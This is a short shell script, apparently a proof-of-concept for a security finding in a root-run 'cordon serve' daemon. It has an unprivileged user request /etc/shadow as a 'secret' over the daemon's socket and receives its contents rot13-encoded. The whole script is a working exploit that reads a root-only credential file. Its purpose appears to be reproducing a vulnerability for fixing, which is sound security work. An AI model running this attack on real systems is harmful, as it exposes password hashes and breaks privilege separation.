#!/bin/sh
# F3 variant: a client of a root `cordon serve` names a root-only file as a
# secret; the server reads it and hands it to the client's command.
C=${CORDON:-/work/wt/attack/build/cordon}
id atk >/dev/null 2>&1 || useradd -m atk
T=$(mktemp -d /tmp/atk-serve2.XXXXXX); chmod 755 "$T"
"$C" serve --socket "$T/sock" --state-dir "$T/state" --allow-uid "$(id -u atk)" >"$T/log" 2>&1 &
P=$!; sleep 1; chmod 666 "$T/sock"
cat > "$T/req.json" <<'J'
{"policy": {"secrets": {"S": {"file": "/etc/shadow", "allow_short": true}}},
 "argv": ["sh", "-c", "printf %s \"$S\" | tr a-z n-za-m | head -c 80"]}
J
su atk -s /bin/sh -c "curl -s --unix-socket $T/sock -X POST http://x/v1/runs --data-binary @$T/req.json" | jq -r .run.stdout_b64 | base64 -d
echo; echo "(above: /etc/shadow rot13, as received by uid $(id -u atk))"
kill $P
